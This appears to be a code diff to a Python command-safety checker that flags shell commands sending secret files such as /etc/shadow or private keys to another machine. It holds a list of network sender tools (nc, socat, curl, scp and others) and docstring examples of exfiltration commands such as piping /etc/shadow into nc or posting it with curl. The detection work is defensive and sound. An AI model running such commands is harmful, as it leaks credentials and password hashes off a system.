@@ -570,37 +570,53 @@ class Judge(Memory, CodeJudge):
 _GLOB_START = frozenset("*?[")
 
 
-# programs that send what they are given (files named, or their input) to another machine
-_SENDERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
-                      "telnet", "curl", "wget", "scp", "sftp", "rsync", "ftp", "tftp", "ssh",
-                      "mail", "mailx", "sendmail", "mutt", "openssl"})
+# programs that send their input to another machine
+_STDIN_SENDERS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "socat",
+                            "telnet", "curl", "wget", "ssh", "mail", "mailx", "sendmail",
+                            "mutt"})
+_UPLOADS = ("-T", "--upload-file", "--post-file", "--body-file", "-A", "-a", "--attach")
 
 
 def _sent_secret(program: str, argv: list[str], command: SimpleCommand | None) -> str | None:
-    """A secret file (`/etc/shadow`, a private key) a sender is given: named in its words
-    (`curl -d @/etc/shadow`, `scp /etc/shadow h:`), on its input (`< /etc/shadow`), or read
-    by a command earlier in its pipeline (`cat /etc/shadow | nc h p`). ssh's own words run
-    on the other machine, so only its input counts."""
+    """A secret file (`/etc/shadow`, a private key) sent to another machine: on a sender's
+    input (`< /etc/shadow`, `cat /etc/shadow | nc h p`), as an upload (`curl -d @FILE`,
+    `curl -T FILE`, `mail -A FILE`, `socat FILE:… TCP:…`), copied to a remote host (`scp
+    FILE h:`, `rsync FILE h:`), or written to `/dev/tcp`."""
     from reos.safety.paths import is_secret
 
-    words = [] if program == "ssh" else argv[1:]
-    if command is not None:
-        words = [*words, *(r.target for r in command.redirects if r.op in ("<", "<>"))]
+    given: list[str] = []
+    to_network = command is not None and any(
+        r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
+        if r.op in _WRITE_OPS)
+    if program == "openssl" and "s_client" in argv[1:2]:
+        program = "nc"  # a TLS connection that sends its input
+    if command is not None and (program in _STDIN_SENDERS or to_network):
+        given += [r.target for r in command.redirects if r.op in ("<", "<>")]
         up = command.upstream
         for _ in range(1000):
             if up is None:
                 break
-            words += up.argv[1:] + [r.target for r in up.redirects if r.op == "<"]
+            given += up.argv[1:] + [r.target for r in up.redirects if r.op == "<"]
             up = up.upstream
-    if program not in _SENDERS and not (command is not None and any(
-            r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in command.redirects
-            if r.op in _WRITE_OPS)):
-        return None
-    for word in words:
-        path = word.rpartition("@")[2] if "@" in word else word.rpartition("=")[2]
-        if path and is_secret(path):
-            return path
-    return None
+        if to_network:
+            given += argv[1:]
+    words = argv[1:]
+    if program in ("curl", "wget", "mail", "mailx", "mutt"):
+        given += [w.rpartition("@")[2] for w in words if "@" in w and "://" not in w]
+        given += [words[i + 1] for i, w in enumerate(words[:-1]) if w in _UPLOADS]
+        given += [w.partition("=")[2] for w in words if w.partition("=")[0] in _UPLOADS]
+    if program == "socat":
+        given += [w.partition(":")[2].split(",")[0] for w in words
+                  if w.upper().startswith(("FILE:", "OPEN:", "GOPEN:"))]
+    if program in ("scp", "rsync", "sftp") and any(_remote(w) for w in words):
+        given += [w for w in words if not w.startswith("-") and not _remote(w)]
+    return next((p for p in given if p and is_secret(p)), None)
+
+
+def _remote(word: str) -> bool:
+    """`host:path` or `user@host:path` (scp, rsync): a place on another machine."""
+    head = word.split("/", 1)[0]
+    return ":" in head and not word.startswith(("/", "./", "~"))
 
 
 def _shell_upstream(command: SimpleCommand) -> bool:
